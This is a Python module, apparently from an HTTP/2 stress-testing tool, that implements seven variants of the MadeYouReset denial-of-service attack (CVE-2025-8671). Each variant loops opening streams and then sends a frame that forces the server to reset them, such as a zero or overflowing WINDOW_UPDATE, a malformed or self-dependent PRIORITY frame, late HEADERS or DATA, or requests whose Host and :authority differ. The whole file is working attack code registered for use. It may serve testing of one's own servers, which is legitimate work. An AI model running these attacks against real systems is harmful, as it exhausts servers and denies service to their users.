"""MadeYouReset (CVE-2025-8671): a good request, then a frame for which the *server* must reset it.

As with rapid reset the stream leaves the count of open ones while the origin is still busy with it;
but no RST_STREAM of the client is there to be counted. Six frames have that effect. Requests that are themselves
malformed make the server reset as much, without the origin.
"""

from hyperframe.frame import DataFrame, HeadersFrame, WindowUpdateFrame

from peer import Peer, request

PRIORITY = 2
WINDOW_UPDATE = 8
AT_ONCE = 50


def _attack(provoke):
    def attack(target, pace):
        peer = Peer(target)
        while pace.goes_on(peer):
            stream = peer.open(request(b"/attack/slow"))
            provoke(peer, stream)
            if stream % 64 == 1:
                peer.pump(0)
        return peer

    attack.__doc__ = provoke.__doc__
    return attack


def zero_increment(peer, stream):
    """WINDOW_UPDATE with an increment of zero (RFC 9113, section 6.9)."""
    peer.raw(WINDOW_UPDATE, 0, stream, bytes(4), "WindowUpdateFrame")


def window_overflow(peer, stream):
    """WINDOW_UPDATE beyond 2^31-1 (section 6.9.1)."""
    peer.send(WindowUpdateFrame(stream, window_increment=2**31 - 1))


def priority_length(peer, stream):
    """PRIORITY that is not five bytes long (section 6.3)."""
    peer.raw(PRIORITY, 0, stream, bytes(4), "PriorityFrame")


def priority_on_itself(peer, stream):
    """PRIORITY that makes a stream depend on itself (RFC 7540, section 5.3.1)."""
    peer.raw(PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"\x10", "PriorityFrame")


def headers_after_end(peer, stream):
    """HEADERS on a stream whose request has ended (section 5.1, half-closed)."""
    frame = HeadersFrame(stream, data=peer.encode([(b"x-late", b"yes")]))
    frame.flags.add("END_HEADERS")
    frame.flags.add("END_STREAM")
    peer.send(frame)


def data_after_end(peer, stream):
    """DATA on a stream whose request has ended (section 5.1, half-closed)."""
    peer.send(DataFrame(stream, data=b"late"))


def malformed(target, pace):
    """Requests whose Host differs from `:authority` (section 8.3.1), never more at once than may be open."""
    peer = Peer(target)
    while pace.goes_on(peer):
        for _ in range(AT_ONCE):
            peer.open(request(b"/attack/malformed", extra=[(b"host", b"b.example")]))
        every = peer.next_stream // 2
        peer.pump(pace.left(), until=lambda: peer.over or len(peer.resets) >= every)
    return peer


ATTACKS = {
    "madeyoureset-zero-increment": _attack(zero_increment),
    "madeyoureset-window-overflow": _attack(window_overflow),
    "madeyoureset-priority-length": _attack(priority_length),
    "madeyoureset-priority-on-itself": _attack(priority_on_itself),
    "madeyoureset-headers-after-end": _attack(headers_after_end),
    "madeyoureset-data-after-end": _attack(data_after_end),
    "madeyoureset-malformed": malformed,
}
